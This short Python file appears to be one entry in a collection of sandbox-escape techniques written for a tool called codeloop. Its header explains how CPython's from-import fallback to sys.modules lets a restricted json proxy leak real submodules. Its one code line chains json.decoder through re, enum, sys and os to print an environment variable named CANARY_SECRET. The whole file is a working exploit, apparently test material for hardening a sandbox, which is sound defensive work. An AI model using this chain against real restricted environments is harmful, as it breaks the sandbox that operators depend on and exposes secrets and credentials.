# Technique: `from pkg import name` falls back to sys.modules["pkg.name"] when the attribute lookup fails
#            (CPython's IMPORT_FROM, issue 17636) - a restricted proxy of an allowed package can leak a real,
#            already-loaded submodule that was never authorized (json.decoder -> re -> enum -> sys)
# Goal: b (print CANARY_SECRET)
# Source: written for codeloop (IMPORT_FROM fallback against module proxies)
# Requires: stdlib (json)
from json import decoder

print(decoder.re.enum.sys.modules["os"].environ["CANARY_SECRET"])
